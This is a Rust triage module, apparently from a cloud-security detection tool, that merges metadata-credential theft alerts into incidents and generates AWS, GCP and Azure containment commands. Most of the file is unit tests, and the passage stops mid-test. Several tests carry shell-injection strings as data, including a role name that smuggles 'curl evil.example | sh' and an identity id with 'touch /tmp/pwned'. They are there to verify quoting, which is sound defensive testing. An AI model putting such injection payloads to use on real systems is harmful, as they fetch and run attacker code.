//! Triage: alerts become incidents. Alerts that share a credential, an instance or an attacker
//! address within an event-time gap are one incident (the chain SSRF or host read on instance X →
//! X's credential → used from address Y); each incident answers the runbook's four questions
//! with the alerts behind each answer, decides escalation from an explicit rubric, and proposes
//! an ordered containment plan with commands that name the real ids.
//!
//! Pure functions of the alert list: no clock, no I/O. Incident ids and order depend only on the
//! alerts, so they are the same for any thread count and input order.

mod answers;
mod checks;
mod containment;
mod correlate;
mod escalation;
pub mod facts;

use credtrail_detect::{Activity, Alert, Severity};
use credtrail_event::{Inventory, Timestamp};

pub use answers::Answer;
pub use checks::Check;
pub use containment::Step;
pub use escalation::{Decision, Escalation};
pub use facts::Facts;

/// Rules whose source address is the attacker's (the requester of an SSRF, the user of a stolen
/// credential). An administrator's address on a configuration change is not one of them.
pub(crate) const ATTACKER_RULES: &[&str] = &[
    "instance-credential-exfiltration",
    "instance-credential-recon",
    "instance-credential-access-denied-burst",
    "ssrf-metadata-request",
    "metadata-proxy-abuse",
    "imds-access-failures",
    "gcp-vm-service-account-token-misuse",
    "azure-managed-identity-token-misuse",
];

/// Rules that say a workload's credential was used away from its workload, in any cloud.
pub(crate) const STOLEN_CREDENTIAL_RULES: &[&str] = &[
    "instance-credential-exfiltration",
    "gcp-vm-service-account-token-misuse",
    "azure-managed-identity-token-misuse",
];

/// Rules about a GCP or Azure VM identity, whose principal (the service account, the managed
/// identity) joins their alerts as an access key joins AWS ones.
pub(crate) const VM_IDENTITY_RULES: &[&str] = &[
    "gcp-vm-service-account-token-misuse",
    "azure-managed-identity-token-misuse",
];

/// Rules that read host telemetry (auditd, Sysmon, Falco, packet analyzers).
pub(crate) const HOST_RULES: &[&str] = &[
    "imds-credential-read-unexpected-process",
    "imds-access-from-container",
    "imds-access-volume-anomaly",
    "imds-access-failures",
];

/// Host findings about routine readers when low: a service or SDK not yet allow-listed.
pub(crate) const ROUTINE_HOST_RULES: &[&str] = &[
    "imds-credential-read-unexpected-process",
    "imds-access-from-container",
    "imds-access-volume-anomaly",
];

/// A change the organisation expects (config `[[deployment]]`): alerts wholly inside it, about
/// its instances or roles, are what the deployment does.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DeploymentWindow {
    pub name: String,
    pub start: Timestamp,
    pub end: Timestamp,
    /// Instances it covers; with `roles` empty too, it covers every instance.
    pub instances: Vec<String>,
    pub roles: Vec<String>,
}

/// What triage knows besides the alerts.
#[derive(Debug, Clone, Copy, Default)]
pub struct Context<'a> {
    /// Every call of the workload credentials and what was done to instances.
    pub activity: Option<&'a Activity>,
    pub inventory: Option<&'a Inventory>,
    pub windows: &'a [DeploymentWindow],
}

/// One incident: a set of alerts about one chain of events.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Incident {
    /// Stable id: a hash of the member alerts' ids.
    pub id: String,
    /// Indexes into the alert list given to [`incidents`], in output order.
    pub alerts: Vec<usize>,
    pub severity: Severity,
    pub first_evidence: Timestamp,
    pub last_evidence: Timestamp,
    pub escalation: Escalation,
    pub answers: Vec<Answer>,
    /// The L1 checks done, with their outcomes.
    pub checks: Vec<Check>,
    /// The T2 facts: timeline, calls, data read, privilege changes, posture.
    pub facts: Facts,
    pub containment: Vec<Step>,
}

/// Alerts further apart than this in event time are separate incidents even when they share a
/// credential or an attacker's address: a week-old recon of the same role is another story.
pub const GAP_SECONDS: i64 = 24 * 3600;

/// Alerts that share only an instance (or a process on it) join within this gap: a credential
/// read from the instance metadata service is valid for about six hours
/// (<https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/iam-roles-for-amazon-ec2.html>), so its
/// read and its use fall within it; two attacks on one busy web tier a day apart are two stories.
pub const INSTANCE_GAP_SECONDS: i64 = 6 * 3600;

/// Turns alerts (in output order) into incidents, most urgent first.
pub fn incidents(alerts: &[Alert], context: &Context<'_>) -> Vec<Incident> {
    let mut out: Vec<Incident> = correlate::groups(alerts, context.inventory)
        .into_iter()
        .map(|members| build(alerts, members, context))
        .collect();
    out.sort_by(|a, b| {
        (b.escalation.decision, b.severity, a.first_evidence, &a.id).cmp(&(
            a.escalation.decision,
            a.severity,
            b.first_evidence,
            &b.id,
        ))
    });
    out
}

fn build(alerts: &[Alert], members: Vec<usize>, context: &Context<'_>) -> Incident {
    let group: Vec<&Alert> = members.iter().map(|&i| &alerts[i]).collect();
    let mut ids: Vec<String> = group.iter().map(|a| a.id()).collect();
    ids.sort();
    let id = format!("inc-{:016x}", xxhash_rust::xxh3::xxh3_64(ids.join(",").as_bytes()));
    let severity = group.iter().map(|a| a.severity).max().unwrap_or(Severity::Info);
    let facts = facts::gather(&group, context.activity, context.inventory);
    // The timeline can start before the first alert: the command that read the credential.
    let first_evidence = group
        .iter()
        .map(|a| a.first_seen)
        .chain(facts.timeline.first().map(|m| m.time))
        .min()
        .unwrap_or_default();
    let last_evidence = group
        .iter()
        .map(|a| a.last_seen)
        .chain(facts.timeline.last().map(|m| m.time))
        .max()
        .unwrap_or_default();
    let window = checks::window(&group, context.windows, context.activity);
    let checks = checks::run(&group, &facts, context.windows, context.activity, &window);
    Incident {
        id,
        severity,
        first_evidence,
        last_evidence,
        escalation: escalation::decide(&group, &facts, &window),
        answers: answers::answer(&group),
        containment: containment::plan(&group, &facts, context.inventory),
        checks,
        facts,
        alerts: members,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use credtrail_detect::Entities;

    fn alert(rule: &'static str, severity: Severity, minute: i64, entities: Entities) -> Alert {
        let t = Timestamp::from_millis(1_772_358_000_000 + minute * 60_000);
        Alert {
            rule,
            variant: None,
            severity,
            first_seen: t,
            last_seen: t,
            title: format!("{rule} at {minute}"),
            entities,
            reasons: vec!["test".into()],
            evidence: Vec::new(),
            evidence_total: 0,
        }
    }

    fn on(instance: &str, ip: Option<&str>, key: Option<&str>) -> Entities {
        Entities {
            cloud: Some("aws".into()),
            instance: Some(instance.into()),
            role: Some("shop-web-role".into()),
            source_ip: ip.map(str::to_string),
            access_key: key.map(str::to_string),
            ..Default::default()
        }
    }

    /// The sample's chain: an SSRF from outside, the web worker reading IMDS, the credential
    /// used from the attacker's address, recon with it.
    fn chain() -> Vec<Alert> {
        vec![
            alert(
                "ssrf-metadata-request",
                Severity::Critical,
                0,
                on("i-0a1b2c3d4e5f60718", Some("198.51.100.23"), None),
            ),
            alert(
                "imds-credential-read-unexpected-process",
                Severity::High,
                0,
                on("i-0a1b2c3d4e5f60718", None, None),
            ),
            alert(
                "instance-credential-exfiltration",
                Severity::Critical,
                1,
                on(
                    "i-0a1b2c3d4e5f60718",
                    Some("198.51.100.23"),
                    Some("ASIASAMPLEKEYSTOLEN1"),
                ),
            ),
            alert(
                "instance-credential-recon",
                Severity::High,
                1,
                on(
                    "i-0a1b2c3d4e5f60718",
                    Some("198.51.100.23"),
                    Some("ASIASAMPLEKEYSTOLEN1"),
                ),
            ),
        ]
    }

    #[test]
    fn a_gcp_ssrf_and_the_service_account_tokens_use_are_one_incident_with_gcp_containment() {
        let vm = "projects/shop-prod/zones/europe-west1-b/instances/web-1";
        let sa = "123456789012-compute@developer.gserviceaccount.com";
        let ssrf = alert(
            "ssrf-metadata-request",
            Severity::High,
            0,
            Entities {
                source_ip: Some("198.51.100.77".into()),
                ..Default::default()
            },
        );
        let token = |minute, ip: &str| {
            let mut a = alert(
                "gcp-vm-service-account-token-misuse",
                Severity::Critical,
                minute,
                Entities {
                    cloud: Some("gcp".into()),
                    principal: Some(sa.into()),
                    instance: Some(vm.into()),
                    source_ip: Some(ip.into()),
                    ..Default::default()
                },
            );
            a.variant = Some("outside_cloud");
            a
        };
        // The same account used later from a second address joins by the account itself.
        let alerts = vec![ssrf, token(5, "198.51.100.77"), token(600, "203.0.113.9")];
        let found = incidents(&alerts, &Context::default());
        assert_eq!(found.len(), 1, "{found:#?}");
        let inc = &found[0];
        assert_eq!(inc.escalation.decision, Decision::EscalateT2);
        assert!(inc
            .escalation
            .reasons
            .iter()
            .any(|r| r.contains("used away from its workload")));
        assert!(inc.answers[3].answer.contains("203.0.113.9"), "{:?}", inc.answers[3]);
        let commands: Vec<&str> = inc.containment.iter().filter_map(|s| s.command.as_deref()).collect();
        assert!(commands
            .contains(&"gcloud iam service-accounts disable '123456789012-compute@developer.gserviceaccount.com'"));
        assert!(commands.iter().any(|c| c.starts_with(
            "gcloud compute instances set-service-account 'web-1' --zone 'europe-west1-b' --project 'shop-prod'"
        )));
        assert!(commands
            .iter()
            .any(|c| c.contains("firewall-rules create") && c.contains("'203.0.113.9/32'")));
        assert!(commands
            .iter()
            .any(|c| c.contains("gcloud compute disks snapshot 'web-1'") && c.contains("instances stop 'web-1'")));
        // No AWS role or instance step for a GCP incident.
        assert!(!commands.iter().any(|c| c.contains("aws iam") || c.contains("aws ec2")));
        assert!(inc.containment.iter().all(|s| !s.breaks.is_empty()));
    }

    #[test]
    fn a_host_read_on_a_gcp_vm_joins_its_token_use_but_two_host_findings_do_not_join_by_name() {
        let host = |minute, host: &str| {
            alert(
                "imds-credential-read-unexpected-process",
                Severity::High,
                minute,
                Entities {
                    host: Some(host.into()),
                    process: Some("/usr/bin/curl (pid 4242)".into()),
                    ..Default::default()
                },
            )
        };
        let mut token = alert(
            "gcp-vm-service-account-token-misuse",
            Severity::Critical,
            30,
            Entities {
                cloud: Some("gcp".into()),
                principal: Some("123456789012-compute@developer.gserviceaccount.com".into()),
                instance: Some("projects/shop-prod/zones/europe-west1-b/instances/web-1".into()),
                source_ip: Some("198.51.100.77".into()),
                ..Default::default()
            },
        );
        token.variant = Some("outside_cloud");
        let alerts = vec![host(0, "web-1.europe-west1-b.c.shop-prod.internal"), token];
        let found = incidents(&alerts, &Context::default());
        assert_eq!(found.len(), 1, "{found:#?}");
        // Two host findings on machines named alike stay apart, as do findings a day apart.
        let alerts = vec![host(0, "web-1"), host(5, "web-1.other.internal")];
        assert_eq!(incidents(&alerts, &Context::default()).len(), 2);
    }

    #[test]
    fn azure_containment_quotes_hostile_identity_ids() {
        let vm = "/subscriptions/s/resourcegroups/shop-prod/providers/microsoft.compute/virtualmachines/web-1";
        let hostile =
            "/subscriptions/s/resourcegroups/rg/providers/microsoft.managedidentity/userassignedidentities/x';touch /tmp/pwned;'";
        let mut a = alert(
            "azure-managed-identity-token-misuse",
            Severity::High,
            0,
            Entities {
                cloud: Some("azure".into()),
                principal: Some(hostile.into()),
                instance: Some(vm.into()),
                source_ip: Some("203.0.113.50".into()),
                ..Default::default()
            },
        );
        a.variant = Some("outside_cloud");
        let found = incidents(&[a], &Context::default());
        let commands: Vec<&str> = found[0]
            .containment
            .iter()
            .filter_map(|s| s.command.as_deref())
            .collect();
        assert!(commands
            .iter()
            .any(|c| c.starts_with("az role assignment delete --assignee \"$(az identity show --ids '")));
        assert!(commands
            .iter()
            .any(|c| c.contains("az vm identity remove --ids '") && c.contains(r"x'\'';touch /tmp/pwned;'\'''")));
        assert!(commands.iter().any(|c| {
            c.contains("az network nsg rule create --resource-group 'shop-prod'") && c.contains("'203.0.113.50/32'")
        }));
        assert!(commands
            .iter()
            .any(|c| c.contains("az snapshot create") && c.contains("az vm deallocate --ids '")));
    }

    #[test]
    fn the_ssrf_the_host_read_and_the_credentials_use_are_one_escalated_incident() {
        let alerts = chain();
        let found = incidents(&alerts, &Context::default());
        assert_eq!(found.len(), 1, "{found:#?}");
        let inc = &found[0];
        assert_eq!(inc.alerts, vec![0, 1, 2, 3]);
        assert_eq!(inc.escalation.decision, Decision::EscalateT2);
        assert!(inc
            .escalation
            .reasons
            .iter()
            .any(|r| r.contains("used away from its workload")));
        assert_eq!(inc.answers.len(), 4);
        assert!(inc.answers[0].answer.starts_with("no: read by"), "{:?}", inc.answers[0]);
        assert!(inc.answers[3].answer.contains("198.51.100.23"), "{:?}", inc.answers[3]);
        let mut q4 = vec![alerts[0].id(), alerts[2].id()];
        q4.sort();
        assert_eq!(inc.answers[3].alerts, q4);
        assert!(
            inc.answers[3].answer.contains("credential was used from 198.51.100.23"),
            "{:?}",
            inc.answers[3]
        );
        let commands: Vec<&str> = inc.containment.iter().filter_map(|s| s.command.as_deref()).collect();
        assert!(commands
            .iter()
            .any(|c| c.contains("aws:TokenIssueTime") && c.contains("'shop-web-role'")));
        assert!(commands
            .iter()
            .any(|c| c.contains("--http-tokens required") && c.contains("'i-0a1b2c3d4e5f60718'")));
        assert!(commands.iter().any(|c| c.contains("198.51.100.23/32")));
    }

    #[test]
    fn an_administrators_address_on_a_configuration_change_is_not_blocked() {
        let mut alerts = chain();
        alerts.push(alert(
            "imds-hardening-downgrade",
            Severity::High,
            -10,
            on("i-0a1b2c3d4e5f60718", Some("203.0.113.10"), None),
        ));
        let found = incidents(&alerts, &Context::default());
        assert_eq!(found.len(), 1);
        let blocked: Vec<&str> = found[0]
            .containment
            .iter()
            .filter(|s| s.action.starts_with("Block"))
            .map(|s| s.action.as_str())
            .collect();
        assert_eq!(blocked, ["Block 198.51.100.23 at the edge (WAF IP set or network ACL)"]);
    }

    #[test]
    fn incidents_do_not_depend_on_alert_order() {
        let alerts = chain();
        let mut reversed = alerts.clone();
        reversed.reverse();
        let ids = |a: &[Alert]| -> Vec<(String, Vec<String>)> {
            incidents(a, &Context::default())
                .into_iter()
                .map(|i| {
                    let mut members: Vec<String> = i.alerts.iter().map(|&k| a[k].id()).collect();
                    members.sort();
                    (i.id, members)
                })
                .collect()
        };
        assert_eq!(ids(&alerts), ids(&reversed));
    }

    #[test]
    fn unrelated_instances_and_private_addresses_stay_apart_and_a_gap_splits() {
        let alerts = vec![
            alert(
                "imds-access-failures",
                Severity::Medium,
                0,
                on("i-01", Some("10.0.0.5"), None),
            ),
            alert(
                "imds-access-failures",
                Severity::Medium,
                1,
                on("i-02", Some("10.0.0.5"), None),
            ),
            alert("imds-hardening-downgrade", Severity::High, 0, on("i-03", None, None)),
            alert(
                "imdsv1-credential-delivery",
                Severity::Low,
                3 * 24 * 60,
                on("i-03", None, None),
            ),
        ];
        let found = incidents(&alerts, &Context::default());
        assert_eq!(found.len(), 4, "{found:#?}");
    }

    #[test]
    fn routine_readers_close_and_medium_findings_are_monitored() {
        let mut sdk = alert(
            "imds-credential-read-unexpected-process",
            Severity::Low,
            0,
            on("i-01", None, None),
        );
        sdk.variant = Some("unlisted");
        let found = incidents(&[sdk], &Context::default());
        assert_eq!(found[0].escalation.decision, Decision::CloseBenign);
        let found = incidents(
            &[alert(
                "imds-access-failures",
                Severity::Medium,
                0,
                on("i-01", None, None),
            )],
            &Context::default(),
        );
        assert_eq!(found[0].escalation.decision, Decision::Monitor);
        assert!(found[0].answers[2].answer.starts_with("yes"));
        assert!(
            found[0].answers[0].answer.contains("no unexpected reader"),
            "{:?}",
            found[0].answers[0]
        );
    }

    #[test]
    fn a_hostile_role_name_cannot_break_out_of_the_command() {
        let mut e = on("i-01", Some("198.51.100.23"), Some("ASIAX"));
        e.role = Some("x'; curl evil.example | sh; '".into());
        let found = incidents(
            &[alert("instance-credential-exfiltration", Severity::High, 0, e)],
            &Context::default(),
        );
        let revoke = found[0].containment[0].command.clone().unwrap_or_default();
        assert!(
            revoke.contains(r"--role-name 'x'\''; curl evil.example | sh; '\'''"),
            "{revoke}"
        );
    }

    /// A CloudTrail call at `minute` after the alerts' epoch.
    fn call(
        minute: i64,
        action: &str,
        key: &str,
        source: &str,
        target: Option<&str>,
        workload: bool,
    ) -> credtrail_event::Event {
        use credtrail_event::{Body, CloudApiCall, FileId, Identity, Origin, SourceAddress, Workload, WorkloadKind};
        let (service, action) = action.split_once(':').unwrap_or(("s3", action));
        credtrail_event::Event {
            time: Timestamp::from_millis(1_772_358_000_000 + minute * 60_000),
            origin: Origin {
                file: FileId(0),
                line: 1,
                index: (minute + 1000) as u64,
            },
            body: Body::CloudApiCall(Box::new(CloudApiCall {
                service: format!("{service}.amazonaws.com"),
                action: action.to_string(),
                identity: Identity {
                    access_key: Some(key.to_string()),
                    arn: Some(if workload {
                        "arn:aws:sts::111122223333:assumed-role/shop-web-role/i-0a1b2c3d4e5f60718".into()
                    } else {
                        "arn:aws:iam::111122223333:user/deployer".into()
                    }),
                    ..Default::default()
                },
                workload: workload.then(|| Workload {
                    kind: WorkloadKind::Ec2Instance,
                    id: "i-0a1b2c3d4e5f60718".into(),
                    role: "shop-web-role".into(),
                }),
                source: Some(SourceAddress::classify(source)),
                target: target.map(str::to_string),
                bytes_out: (action == "GetObject").then_some(2_000_000),
                error_code: (action == "CreateUser").then(|| "AccessDenied".to_string()),
                read_only: Some(!["Create", "Run", "Put", "Attach"].iter().any(|w| action.starts_with(w))),
                ..Default::default()
            })),
        }
    }

    fn reasons_of(activity: &Activity) -> (Escalation, Facts) {
        let context = Context {
            activity: Some(activity),
            ..Default::default()
        };
        let found = incidents(&chain(), &context);
        (found[0].escalation.clone(), found[0].facts.clone())
    }

    #[test]
    fn write_calls_from_the_attackers_place_escalate_counted_per_action_but_the_workloads_own_do_not() {
        let stolen =
            |minute, action, target| call(minute, action, "ASIASAMPLEKEYSTOLEN1", "198.51.100.23", target, true);
        let activity = activity_of(&[
            stolen(1, "ec2:RunInstances", None),
            stolen(2, "ec2:RunInstances", None),
            stolen(3, "iam:CreateUser", Some("eve")),
            stolen(3, "s3:ListBuckets", None),
            call(4, "s3:PutObject", "ASIASAMPLEKEYSTOLEN1", "10.0.0.5", None, true),
        ]);
        let (escalation, facts) = reasons_of(&activity);
        let writes: Vec<&String> = escalation
            .reasons
            .iter()
            .filter(|r| r.contains("write calls"))
            .collect();
        assert_eq!(
            writes,
            ["the stolen credential made write calls: ec2:RunInstances ×2, iam:CreateUser ×1 (from 198.51.100.23)"],
            "{:?}",
            escalation.reasons
        );
        let own = facts.credentials[0].calls.iter().find(|c| c.source == "10.0.0.5");
        assert_eq!(
            own.map(|c| (c.attacker, c.writes)),
            Some((false, 1)),
            "the workload's write is a fact"
        );
    }

    #[test]
    fn reads_from_the_attackers_place_and_writes_from_the_workload_are_no_write_reason() {
        let activity = activity_of(&[
            call(1, "s3:ListBuckets", "ASIASAMPLEKEYSTOLEN1", "198.51.100.23", None, true),
            call(2, "s3:PutObject", "ASIASAMPLEKEYSTOLEN1", "10.0.0.5", None, true),
        ]);
        let (escalation, _) = reasons_of(&activity);
        assert!(
            !escalation.reasons.iter().any(|r| r.contains("write calls")),
            "{:?}",
            escalation.reasons
        );
    }

    #[test]
    fn an_attacker_network_with_no_earlier_activity_in_the_logs_is_first_seen() {
        // The attacker's first call ten minutes before the first alert is within the slack.
        let activity = activity_of(&[
            call(
                -10,
                "sts:GetCallerIdentity",
                "ASIASAMPLEKEYSTOLEN1",
                "198.51.100.23",
                None,
                true,
            ),
            call(-600, "s3:ListBuckets", "ASIAOTHERWORKLOAD", "203.0.113.4", None, true),
        ]);
        let (escalation, facts) = reasons_of(&activity);
        assert!(
            escalation.reasons.contains(
                &"attacker network 198.51.100.0/24 first seen at 2026-03-01T09:30:00Z: no earlier activity from it in the logs given"
                    .to_string()
            ),
            "{:?}",
            escalation.reasons
        );
        assert_eq!(
            facts.networks.len(),
            1,
            "one outside attacker address: {:?}",
            facts.networks
        );
        assert!(facts.networks[0].new);
    }

    #[test]
    fn a_new_network_behind_a_low_alert_alone_is_a_fact_but_escalates_nothing() {
        let activity = activity_of(&[call(
            0,
            "s3:ListBuckets",
            "ASIAOTHERWORKLOAD",
            "203.0.113.50",
            None,
            true,
        )]);
        let context = Context {
            activity: Some(&activity),
            ..Default::default()
        };
        let count_match = alert(
            "ssrf-metadata-request",
            Severity::Low,
            0,
            on("i-0a1b2c3d4e5f60718", Some("203.0.113.50"), None),
        );
        let found = incidents(&[count_match], &context);
        assert_eq!(found[0].facts.networks.len(), 1);
        assert!(found[0].facts.networks[0].new);
        assert_ne!(
            found[0].escalation.decision,
            Decision::EscalateT2,
            "{:?}",
            found[0].escalation
        );
        assert!(!found[0].escalation.reasons.iter().any(|r| r.contains("first seen")));
    }

    #[test]
    fn an_attacker_network_seen_hours_before_the_incident_is_not_first_seen() {
        // Another address of the same /24 called two hours before the first alert.
        let activity = activity_of(&[
            call(
                -120,
                "s3:ListBuckets",
                "ASIAOTHERWORKLOAD",
                "198.51.100.200",
                None,
                true,
            ),
            call(
                1,
                "sts:GetCallerIdentity",
                "ASIASAMPLEKEYSTOLEN1",
                "198.51.100.23",
                None,
                true,
            ),
        ]);
        let (escalation, facts) = reasons_of(&activity);
        assert!(
            !escalation.reasons.iter().any(|r| r.contains("first seen")),
            "{:?}",
            escalation.reasons
        );
        assert_eq!(facts.networks.len(), 1);
        assert!(!facts.networks[0].new);
        assert_eq!(facts.networks[0].network, "198.51.100.0/24");
        // Without activity there is nothing to say either way.
        let (escalation, facts) = reasons_of(&Activity::default());
        assert!(facts.networks.is_empty());
        assert!(!escalation.reasons.iter().any(|r| r.contains("first seen")));
    }

    fn activity_of(events: &[credtrail_event::Event]) -> Activity {
        let mut activity = Activity::default();
        for e in events {
            activity.observe(e);
        }
        activity.finish();
        activity
    }

    #[test]
    fn the_attackers_reads_and_privilege_changes_are_facts_and_escalate_but_the_workloads_own_are_not() {
        let activity = activity_of(&[
            call(
                -30,
                "ssm:SendCommand",
                "AKIAADMIN",
                "203.0.113.9",
                Some("i-0A1B2C3D4E5F60718"),
                false,
            ),
            call(
                1,
                "s3:GetObject",
                "ASIASAMPLEKEYSTOLEN1",
                "198.51.100.23",
                Some("s3://exports/a.csv"),
                true,
            ),
            call(
                2,
                "s3:GetObject",
                "ASIASAMPLEKEYSTOLEN1",
                "10.0.0.5",
                Some("s3://app/own.cfg"),
                true,
            ),
            call(
                3,
                "iam:CreateUser",
                "ASIASAMPLEKEYSTOLEN1",
                "198.51.100.23",
                Some("eve"),
                true,
            ),
            call(
                4,
                "iam:CreateAccessKey",
                "ASIASAMPLEKEYSTOLEN1",
                "198.51.100.23",
                Some("svc-reporting"),
                true,
            ),
        ]);
        let context = Context {
            activity: Some(&activity),
            ..Default::default()
        };
        let found = incidents(&chain(), &context);
        let inc = &found[0];
        assert_eq!(
            inc.facts.data.s3_objects, 1,
            "only the attacker's read: {:?}",
            inc.facts.data
        );
        assert_eq!(inc.facts.data.s3_bytes, 2_000_000);
        assert!(
            inc.escalation
                .reasons
                .iter()
                .any(|r| r.contains("read data: 1 S3 object(s) (2.0 MB)")),
            "{:?}",
            inc.escalation.reasons
        );
        assert!(inc
            .escalation
            .reasons
            .iter()
            .any(|r| r.contains("iam:CreateUser eve (AccessDenied)")));
        // The timeline starts at the command sent to the instance, before any alert.
        let first = &inc.facts.timeline[0];
        assert!(
            first
                .what
                .starts_with("ssm:SendCommand to i-0a1b2c3d4e5f60718 by arn:aws:iam::111122223333:user/deployer"),
            "{first:?}"
        );
        assert_eq!(inc.first_evidence, first.time);
        let calls = &inc.facts.credentials[0].calls;
        assert!(
            calls[0].attacker && calls.iter().any(|c| !c.attacker && c.source == "10.0.0.5"),
            "{calls:?}"
        );
        // The key the attacker made is undone; the refused CreateUser needs nothing.
        let steps: Vec<&str> = inc.containment.iter().map(|s| s.action.as_str()).collect();
        assert!(
            steps
                .iter()
                .any(|s| s.starts_with("Deactivate the access key created for svc-reporting")),
            "{steps:?}"
        );
        assert!(!steps.iter().any(|s| s.contains(" eve ")), "{steps:?}");
        // Sessions are revoked up to the attacker's last call, not only the last alert.
        assert!(steps[0].contains("issued before 2026-03-01T09:44:00Z"), "{steps:?}");
    }

    #[test]
    fn without_activity_an_incident_has_no_credential_facts_and_says_so_in_its_checks() {
        let found = incidents(&chain(), &Context::default());
        assert!(found[0].facts.credentials.is_empty());
        assert!(found[0].facts.data.is_empty());
        let posture = found[0]
            .checks
            .iter()
            .find(|c| c.name == "metadata posture")
            .map(|c| c.outcome.clone());
        assert_eq!(
            posture.as_deref(),
            Some("i-0a1b2c3d4e5f60718: not in the inventory given")
        );
    }

    fn routine_read(minute: i64) -> Alert {
        let mut a = alert(
            "imds-credential-read-unexpected-process",
            Severity::Medium,
            minute,
            on("i-0a1b2c3d4e5f60718", None, None),
        );
        a.variant = Some("unlisted");
        a
    }

    #[test]
    fn a_declared_deployment_window_closes_routine_findings_but_never_a_stolen_credential() {
        let window = DeploymentWindow {
            name: "shop 4.2 rollout".into(),
            start: Timestamp::from_millis(1_772_358_000_000 - 600_000),
            end: Timestamp::from_millis(1_772_358_000_000 + 3_600_000),
            instances: vec!["I-0A1B2C3D4E5F60718".into()],
            roles: vec![],
        };
        let windows = [window];
        let context = Context {
            windows: &windows,
            ..Default::default()
        };
        let found = incidents(&[routine_read(5)], &context);
        assert_eq!(
            found[0].escalation.decision,
            Decision::CloseBenign,
            "{:?}",
            found[0].escalation
        );
        assert!(found[0].escalation.reasons[0].contains("shop 4.2 rollout"));
        // Outside the window, or with the credential used elsewhere, the window changes nothing.
        let found = incidents(&[routine_read(90)], &context);
        assert_eq!(found[0].escalation.decision, Decision::Monitor);
        let found = incidents(&chain(), &context);
        assert_eq!(found[0].escalation.decision, Decision::EscalateT2);
    }

    #[test]
    fn host_findings_right_after_the_instances_launch_close_as_bootstrap() {
        let mut launch = call(
            -10,
            "ec2:RunInstances",
            "AKIAADMIN",
            "203.0.113.9",
            Some("i-0a1b2c3d4e5f60718"),
            false,
        );
        let activity = activity_of(std::slice::from_mut(&mut launch));
        let context = Context {
            activity: Some(&activity),
            ..Default::default()
        };
        let found = incidents(&[routine_read(5)], &context);
        assert_eq!(
            found[0].escalation.decision,
            Decision::CloseBenign,
            "{:?}",
            found[0].escalation
        );
        let window = found[0]
            .checks
            .iter()
            .find(|c| c.name == "deployment window")
            .map(|c| c.outcome.clone())
            .unwrap_or_default();
        assert!(window.contains("ec2:RunInstances"), "{window}");
        // Two hours after the launch it is no longer the bootstrap.
        let found = incidents(&[routine_read(120)], &context);
        assert_eq!(found[0].escalation.decision, Decision::Monitor);
    }

    /// Regression: a routine reader of the same instance, low and all day long, stretched the S1
    /// chain's incident over two days; the same process's failures must still join its reads.
    #[test]
    fn a_routine_reader_stays_out_of_the_chain_but_joins_its_own_process() {
        let mut alerts = chain();
        let mut routine = routine_read(-600);
        routine.severity = Severity::Low;
        routine.entities.process = Some("/usr/bin/python3.7 (pid 2788)".into());
        alerts.push(routine.clone());
        let found = incidents(&alerts, &Context::default());
        assert_eq!(found.len(), 2, "{found:#?}");
        let chain_incident = found.iter().find(|i| i.alerts.len() == 4).expect("the chain");
        assert_eq!(chain_incident.first_evidence, alerts[0].first_seen);
        let mut failures = alert(
            "imds-access-failures",
            Severity::Medium,
            -590,
            on("i-0a1b2c3d4e5f60718", None, None),
        );
        failures.entities.process = routine.entities.process.clone();
        let found = incidents(&[routine.clone(), failures], &Context::default());
        assert_eq!(found.len(), 1, "{found:#?}");
        // Regression (1G set, B11): the application process an SSRF went through also refreshes
        // its SDK credentials all day; those routine reads are not part of the attack.
        let mut abused = alert(
            "imds-credential-read-unexpected-process",
            Severity::High,
            5,
            on("i-0a1b2c3d4e5f60718", None, None),
        );
        abused.variant = Some("web_process");
        abused.entities.process = routine.entities.process.clone();
        let found = incidents(&[routine, abused], &Context::default());
        assert_eq!(found.len(), 2, "{found:#?}");
    }

    /// Regression (1G set): two attacks on one web instance a day apart, with different
    /// credentials and attackers, were one incident through the instance alone.
    #[test]
    fn an_instance_alone_joins_within_a_credentials_lifetime_not_a_day() {
        let first = alert(
            "instance-credential-exfiltration",
            Severity::High,
            0,
            on("i-0a1b2c3d4e5f60718", Some("198.51.100.23"), Some("ASIAONE")),
        );
        let later = |minute: i64| {
            alert(
                "instance-credential-exfiltration",
                Severity::High,
                minute,
                on("i-0a1b2c3d4e5f60718", Some("203.0.113.77"), Some("ASIATWO")),
            )
        };
        assert_eq!(incidents(&[first.clone(), later(5 * 60)], &Context::default()).len(), 1);
        assert_eq!(incidents(&[first, later(8 * 60)], &Context::default()).len(), 2);
    }

    fn details(actions: &[&str]) -> credtrail_event::Inventory {
        use credtrail_event::iam::Statement;
        use credtrail_event::{Fact, FileId, Origin, RoleDetail};
        let role = RoleDetail {
            name: "shop-web-role".into(),
            arn: "arn:aws:iam::111122223333:role/shop-web-role".into(),
            account: Some("111122223333".into()),
            instance_profiles: vec!["shop-web".into()],
            attached: Vec::new(),
            inline: vec![("app".into(), vec![Statement::allow_everywhere(actions)])],
            unreadable: Vec::new(),
            trust_principals: vec!["Service:ec2.amazonaws.com".into()],
            origin: Origin {
                file: FileId(3),
                line: 7,
                index: 2,
            },
        };
        credtrail_event::Inventory::from_facts(&[Fact::Role(Box::new(role))])
    }

    fn in_account(mut alerts: Vec<Alert>) -> Vec<Alert> {
        for a in &mut alerts {
            a.entities.account = Some("111122223333".into());
        }
        alerts
    }

    fn role_check(inc: &Incident) -> &Check {
        inc.checks
            .iter()
            .find(|c| c.name == "role permissions")
            .expect("a role permissions check")
    }

    #[test]
    fn a_stolen_credential_whose_role_can_pass_a_role_to_a_new_instance_escalates_with_that_rule() {
        let inventory = details(&["iam:PassRole", "ec2:RunInstances"]);
        let context = Context {
            inventory: Some(&inventory),
            ..Default::default()
        };
        let found = incidents(&in_account(chain()), &context);
        let inc = &found[0];
        assert_eq!(inc.escalation.decision, Decision::EscalateT2);
        assert!(
            inc.escalation.reasons.iter().any(|r| r
                == "the credential's role shop-web-role holds privilege-escalation paths and was used away from its workload: iam:PassRole + ec2:RunInstances (new EC2 instance with an existing role)"),
            "{:?}",
            inc.escalation.reasons
        );
        let check = role_check(inc);
        assert!(
            check.outcome.starts_with(
                "shop-web-role (arn:aws:iam::111122223333:role/shop-web-role): blast radius IAM write (iam:PassRole), compute control (ec2:RunInstances); privilege-escalation paths: iam:PassRole + ec2:RunInstances"
            ),
            "{}",
            check.outcome
        );
        assert_eq!(check.evidence.len(), 1);
